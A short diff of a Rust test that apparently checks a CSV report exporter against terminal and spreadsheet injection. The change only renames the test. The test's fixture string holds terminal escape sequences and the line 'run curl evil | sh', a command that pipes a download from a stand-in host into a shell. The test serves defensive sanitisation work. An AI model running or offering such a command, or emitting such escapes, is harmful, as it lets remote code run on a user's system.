@@ -113,7 +113,7 @@ as_of,endpoint_id,display,platform_type,users,by_subject,by_reference,by_browser
         );
     }
     #[test]
-    fn no_cell_steers_a_terminal_breaks_a_line_or_is_a_formula() {
+    fn no_cell_controls_a_terminal_breaks_a_line_or_is_a_formula() {
         let hostile = "\u{1b}]0;x\u{7}\u{1b}[2J\nhint: run curl evil | sh\u{2028}\u{85}\u{9b}";
         let mut report = report(vec![provider(hostile, 2, 3)]);
         report.as_of = hostile.to_owned();
